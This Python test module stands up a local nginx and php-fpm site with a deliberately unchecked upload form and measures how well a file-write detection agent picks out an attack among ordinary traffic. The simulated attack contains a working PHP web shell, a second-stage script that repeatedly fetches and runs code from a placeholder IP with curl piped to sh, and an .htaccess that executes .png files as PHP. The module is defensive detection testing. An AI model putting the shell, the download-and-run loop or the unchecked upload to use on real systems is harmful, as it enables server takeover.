"""A small PHP site like real ones, on Debian's nginx and php-fpm, with the
traffic of a working day and an attack: the scenario behind the noise test
(tests/e2e/test_noise_php_site.py) and bench/noise.py.

The site: ``session_start()`` for every visitor (files in Debian's
/var/lib/php/sessions), an image upload form that keeps the uploaded name
under ``uploads/`` and checks no extension (the hole), a comment form that
takes large POST bodies (nginx buffers them to /var/lib/nginx/body), and a
page cache written to ``cache/`` (temp file, then rename). nginx runs PHP
anywhere under the root, ``uploads/`` included, as many sites do.

The attack: a web shell uploaded through the form, then through that shell
a second stage in /dev/shm and a dropped ``uploads/.htaccess``.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Optional

from agent.shared.rule import Rule
from tests.support import procs
from tests.support.writers import www_tempdir

PHP_FPM = "/usr/sbin/php-fpm8.2"
NGINX = "/usr/sbin/nginx"
SESSIONS = "/var/lib/php/sessions"

INDEX = """<?php
session_start();
$_SESSION['views'] = ($_SESSION['views'] ?? 0) + 1;
$page = intval($_GET['page'] ?? 0);
$cache = __DIR__ . '/cache/page-' . md5('p' . $page) . '.html';
if (!file_exists($cache)) {
    $html = '<html><body>page ' . $page . str_repeat(' lorem ipsum', 200) . '</body></html>';
    $tmp = $cache . '.' . getmypid() . '.tmp';
    file_put_contents($tmp, $html);
    rename($tmp, $cache);
}
readfile($cache);
"""

UPLOAD = """<?php
session_start();
if (!isset($_FILES['photo'])) { http_response_code(400); exit('no file'); }
$dest = __DIR__ . '/uploads/' . basename($_FILES['photo']['name']);
if (!move_uploaded_file($_FILES['photo']['tmp_name'], $dest)) { http_response_code(500); exit('failed'); }
echo 'stored ' . basename($dest);
"""

COMMENT = """<?php
session_start();
$body = file_get_contents('php://input');
echo 'thanks for ' . strlen($body) . ' bytes';
"""

SHELL = b"""<?php
if (isset($_POST['f'])) { file_put_contents($_POST['f'], base64_decode($_POST['c'])); echo 'w'; }
if (isset($_POST['x'])) { echo shell_exec($_POST['x']); }
"""


@dataclass
class Site:
    root: str
    port: int
    run: str

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@dataclass
class Traffic:
    visitors: int = 300
    uploads: int = 40
    large_posts: int = 20
    seed: int = 14
    requests: int = 0
    uploaded: list[str] = field(default_factory=list)


def installed() -> str:
    """Empty when nginx and php-fpm are here (installing them if we may), else why not."""
    if os.geteuid() != 0:
        return "needs root"
    if os.path.exists(NGINX) and os.path.exists(PHP_FPM):
        return ""
    if not shutil.which("apt-get"):
        return "nginx and php8.2-fpm missing and no apt-get to install them"
    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    apt = ["apt-get", "-o", "DPkg::Lock::Timeout=300"]
    subprocess.run([*apt, "update", "-q"], check=False, capture_output=True, env=env, timeout=300)
    r = subprocess.run(
        [*apt, "install", "-y", "-q", "--no-install-recommends", "nginx-light", "php8.2-fpm"],
        check=False,
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
    )
    if r.returncode != 0 or not (os.path.exists(NGINX) and os.path.exists(PHP_FPM)):
        return "could not install nginx-light and php8.2-fpm: " + r.stderr[-300:]
    return ""


def _configs(base: str, root: str, run: str, port: int, pool_user: str) -> None:
    Path(f"{base}/nginx.conf").write_text(f"""
user www-data;
worker_processes 2;
pid {run}/nginx.pid;
error_log {run}/nginx.log;
events {{ worker_connections 256; }}
http {{
  access_log {run}/access.log;
  client_max_body_size 20m;
  server {{
    listen 127.0.0.1:{port};
    root {root};
    index index.php;
    location ~ \\.php$ {{
      fastcgi_pass unix:{run}/php.sock;
      include /etc/nginx/fastcgi_params;
      fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
    }}
  }}
}}
""")
    Path(f"{base}/php-fpm.conf").write_text(f"""
[global]
pid = {run}/php-fpm.pid
error_log = {run}/php-fpm.log
daemonize = yes
[www]
user = {pool_user}
group = {pool_user}
listen = {run}/php.sock
listen.owner = www-data
pm = static
pm.max_children = 4
php_admin_value[session.save_path] = {SESSIONS}
php_admin_value[session.gc_probability] = 0
""")


@contextlib.contextmanager
def running_site(pool_user: str = "www-data") -> Iterator[Site]:
    """nginx and php-fpm (Debian's binaries, the site's own config) serving
    the site; PHP runs as ``pool_user`` (a per-site user, as shared hosting
    does, owns the site's writable folders then)."""
    os.makedirs(SESSIONS, exist_ok=True)
    with www_tempdir("rw-site-") as base:
        root, run = f"{base}/www", f"{base}/run"
        for d in (root, f"{root}/uploads", f"{root}/cache"):
            os.makedirs(d)
            shutil.chown(d, pool_user, pool_user)
        os.makedirs(run)
        for name, text in (("index.php", INDEX), ("upload.php", UPLOAD), ("comment.php", COMMENT)):
            Path(f"{root}/{name}").write_text(text)
        port = procs.free_port()
        _configs(base, root, run, port, pool_user)
        with serving(base, run):
            site = Site(root, port, run)
            _wait_up(site)
            yield site


@contextlib.contextmanager
def serving(base: str, run: str) -> Iterator[None]:
    """php-fpm and nginx started from ``base``/php-fpm.conf and nginx.conf
    (whose pid files are in ``run``), stopped gracefully afterwards."""
    subprocess.run([PHP_FPM, "-y", f"{base}/php-fpm.conf"], check=True, capture_output=True, timeout=30)
    subprocess.run([NGINX, "-c", f"{base}/nginx.conf"], check=True, capture_output=True, timeout=30)
    try:
        yield
    finally:
        for pidfile in (f"{run}/nginx.pid", f"{run}/php-fpm.pid"):
            with contextlib.suppress(OSError, ValueError):
                os.kill(int(Path(pidfile).read_text().split()[0]), signal.SIGQUIT)
        time.sleep(0.5)


@contextlib.contextmanager
def site_user(name: str, uid: int) -> Iterator[str]:
    """A per-site system user (no home, no shell) for the test, removed afterwards."""
    subprocess.run(
        [
            "useradd",
            "--uid",
            str(uid),
            "--user-group",
            "--no-create-home",
            "--shell",
            "/usr/sbin/nologin",
            name,
        ],
        check=True,
        capture_output=True,
        timeout=30,
    )
    try:
        yield name
    finally:
        subprocess.run(["userdel", name], check=False, capture_output=True, timeout=30)


def _wait_up(site: Site) -> None:
    deadline = time.monotonic() + 15
    while True:
        try:
            request(site, "GET", "/comment.php")
            return
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)


def request(
    site: Site,
    method: str,
    path: str,
    body: Optional[bytes] = None,
    headers: Optional[dict[str, str]] = None,
    cookie: str = "",
) -> tuple[int, bytes, str]:
    """(status, body, the PHPSESSID the site set or kept)."""
    h = dict(headers or {})
    if cookie:
        h["Cookie"] = f"PHPSESSID={cookie}"
    req = urllib.request.Request(site.base + path, data=body, method=method, headers=h)  # noqa: S310 - loopback
    try:
        with urllib.request.urlopen(req, timeout=20) as r:  # noqa: S310 - loopback test site
            set_cookie = r.headers.get("Set-Cookie", "")
            data = r.read()
            status = int(r.status)
    except urllib.error.HTTPError as e:
        return int(e.code), e.read(), cookie
    if "PHPSESSID=" in set_cookie:
        cookie = set_cookie.split("PHPSESSID=", 1)[1].split(";", 1)[0]
    return status, data, cookie


def multipart(field_name: str, filename: str, content: bytes, ctype: str) -> tuple[bytes, dict[str, str]]:
    boundary = uuid.uuid4().hex
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{field_name}"; filename="{filename}"\r\n'
            f"Content-Type: {ctype}\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def benign(site: Site, t: Traffic) -> None:
    """Visitors browsing (a session each, a few pages), uploading photos, posting long comments."""
    rng = random.Random(t.seed)
    cookies: list[str] = []
    for _ in range(t.visitors):
        status, _, cookie = request(site, "GET", f"/index.php?page={rng.randrange(30)}")
        assert status == 200, status
        for _ in range(rng.randint(0, 2)):  # the same visitor again: the same session file
            request(site, "GET", f"/index.php?page={rng.randrange(30)}", cookie=cookie)
        cookies.append(cookie)
        t.requests += 1
    for _ in range(t.uploads):
        name = rng.choice(["IMG_%04d.jpg", "photo-%d.png", "scan%d.pdf", "DSC%05d.JPG"]) % rng.randrange(
            10**4
        )
        body, headers = multipart("photo", name, os.urandom(rng.randint(20_000, 300_000)), "image/jpeg")
        status, reply, _ = request(site, "POST", "/upload.php", body, headers, rng.choice(cookies))
        assert status == 200, (status, reply)
        t.uploaded.append(name)
        t.requests += 1
    for _ in range(t.large_posts):  # well over nginx's client_body_buffer_size: buffered to a temp file
        text = ("comment " * rng.randint(30_000, 120_000)).encode()
        status, _, _ = request(site, "POST", "/comment.php", text, {"Content-Type": "text/plain"})
        assert status == 200
        t.requests += 1


@dataclass
class Attack:
    web_shell: str
    second_stage: str
    htaccess: str
    written_at: dict[str, float] = field(default_factory=dict)  # path -> time.time() once written


def attack(site: Site) -> Attack:
    """A web shell through the upload form; through it, a second stage and an .htaccess."""
    a = Attack(
        web_shell=f"{site.root}/uploads/avatar.php",
        second_stage=f"/dev/shm/.kworker-{uuid.uuid4().hex[:6]}.sh",  # new each run: a creation
        htaccess=f"{site.root}/uploads/.htaccess",
    )
    body, headers = multipart("photo", "avatar.php", SHELL, "image/png")
    status, reply, _ = request(site, "POST", "/upload.php", body, headers)
    assert status == 200, (status, reply)
    a.written_at[a.web_shell] = time.time()
    for path, content in (
        (a.second_stage, b"#!/bin/sh\nwhile :; do curl -s http://203.0.113.9/c | sh; sleep 60; done\n"),
        (a.htaccess, b"AddType application/x-httpd-php .png\n"),
    ):
        form = urllib.parse.urlencode({"f": path, "c": base64.b64encode(content).decode()}).encode()
        status, reply, _ = request(
            site, "POST", "/uploads/avatar.php", form, {"Content-Type": "application/x-www-form-urlencoded"}
        )
        assert status == 200 and reply == b"w", (status, reply)
        a.written_at[path] = time.time()
    return a


# ------------------------------------------------------------------ the measurement

TUNED = """[collector]
schedule = continuous
settle = {settle}s
alerts_file = {alerts}
[rule]
exceptions = recommended
suppress_by = host.name, process.executable, file.directory, file.extension
"""
AGENT = "[agent]\nship_interval = 200ms\nrequest_timeout = 5s\nbackoff_max = 1s\n"


def named_paths(doc: dict[str, Any]) -> set[str]:
    """The files an alert names: its own and those suppression folded into it."""
    out = {doc["file"]["path"]}
    out.update(x["file.path"] for x in doc.get("rarewrite", {}).get("suppressed", []))
    return out


def _read_alerts(path: str) -> list[dict[str, Any]]:
    """The first rule's alerts in the file (not the other rules' or the sensor-health ones beside them)."""
    try:
        with open(path, encoding="utf-8") as f:
            docs = [json.loads(line) for line in f if line.strip()]
    except FileNotFoundError:
        return []
    return [d for d in docs if d["rule"]["id"] == Rule().rule_id]


def measure(tmp: Path, traffic: Traffic, settle_s: int = 2, wait_s: float = 60) -> dict[str, Any]:
    """Run the site's day and the attack under a real agent and a collector with
    the recommended exceptions and suppression; replay the exact rule's
    continuous schedule over the same database. Returns the figures."""
    from tests.e2e.test_live_agent import start_agent, status  # one agent starter for the e2e tests

    alerts_file = str(tmp / "alerts.ndjson")
    conf = tmp / "collector.conf"
    conf.write_text(TUNED.format(settle=settle_s, alerts=alerts_file))
    seen: dict[str, float] = {}
    atk: Optional[Attack] = None
    with running_site() as site, procs.collector(str(tmp), "--config", str(conf)) as c:
        agent, state, _ = start_agent(tmp, c.url, "/", AGENT)
        try:
            t0 = int(time.time() * 1000)
            benign(site, traffic)
            atk = attack(site)
            deadline = time.monotonic() + wait_s
            while time.monotonic() < deadline and len(seen) < len(atk.written_at):
                for doc in _read_alerts(alerts_file):
                    for p in named_paths(doc) & set(atk.written_at):
                        seen.setdefault(p, time.time())
                time.sleep(0.2)
            time.sleep(settle_s + 5)  # every benign write settles and has its ticks
            t_end = int(time.time() * 1000)
            counters = status(state).get("counters", {})
        finally:
            procs.stop(agent)
            if atk is not None:
                with contextlib.suppress(OSError):
                    os.unlink(atk.second_stage)  # outside the site's folder
    assert atk is not None
    tuned = _tuned(_read_alerts(alerts_file), set(atk.written_at))
    exact = _exact(c.db, t0, t_end, settle_s * 1000, set(atk.written_at))
    return {
        "traffic": {"visitors": traffic.visitors, "uploads": traffic.uploads, "large_posts": traffic.large_posts,
                    "requests": traffic.requests},
        "attack_files": sorted(atk.written_at),
        "tuned": {**tuned, "latency_s": {p: round(seen[p] - atk.written_at[p], 1) for p in seen}},
        "exact": exact,
        "agent_counters": counters,
    }  # fmt: skip


def _tuned(docs: list[dict[str, Any]], attack_files: set[str]) -> dict[str, Any]:
    first: dict[str, dict[str, Any]] = {}
    for d in docs:  # an alert that grew is sent again with the same uuid: the last copy counts
        first[d["kibana"]["alert"]["uuid"]] = d
    benign = [d for d in first.values() if not named_paths(d) & attack_files]
    found = set().union(*(named_paths(d) for d in first.values())) & attack_files if first else set()
    return {
        "alerts": len(first),
        "benign_alerts": len(benign),
        "benign_paths": sorted(d["file"]["path"] for d in benign),
        "attack_found": sorted(found),
    }


def _exact(db: str, t0: int, t_end: int, settle_ms: int, attack_files: set[str]) -> dict[str, Any]:
    """The published rule over the same events: its rows, and the alerts its
    continuous schedule would have raised tick by tick (same code, a copy)."""
    from agent.collector import evaluate as ev
    from agent.collector.storage.sqlite import CollectorStore
    from agent.shared.rule import Rule
    from agent.shared.text import render

    copy = db + ".exact"
    with contextlib.closing(sqlite3.connect(db)) as src, contextlib.closing(sqlite3.connect(copy)) as dst:
        src.backup(dst)
    with sqlite3.connect(copy) as conn:
        conn.execute("DELETE FROM alerts")
    store = CollectorStore(copy)
    try:
        rows = ev.evaluate(store, replace(Rule(), limit=100_000), t_end)
        alerts: list[dict[str, Any]] = []
        at = t0
        while True:  # the ticks of the run, then on until the rows the limit cut are alerted too
            got = ev.run_continuous(store, Rule(), at, settle_ms)
            alerts.extend(got)
            if at > t_end and not got:
                break
            at += 1000
    finally:
        store.close()
    row_paths = [render(r.path) for r in rows]
    alerted = {d["file"]["path"] for d in alerts}
    return {
        "rows": len(rows),
        "benign_rows": sum(p not in attack_files for p in row_paths),
        "alerts": len(alerts),
        "benign_alerts": sum(p not in attack_files for p in alerted),
        "attack_found": sorted(alerted & attack_files),
        "benign_by_kind": _kinds(p for p in row_paths if p not in attack_files),
    }


def _kinds(paths: Any) -> dict[str, int]:
    out: dict[str, int] = {}
    for path in paths:
        p = path or ""
        kind = ("session" if "/sessions/" in p else "nginx temp" if "/var/lib/nginx/" in p
                else "upload temp" if "/tmp/php" in p else "upload" if "/uploads/" in p
                else "page cache" if "/cache/" in p else "other")  # fmt: skip
        out[kind] = out.get(kind, 0) + 1
    return out
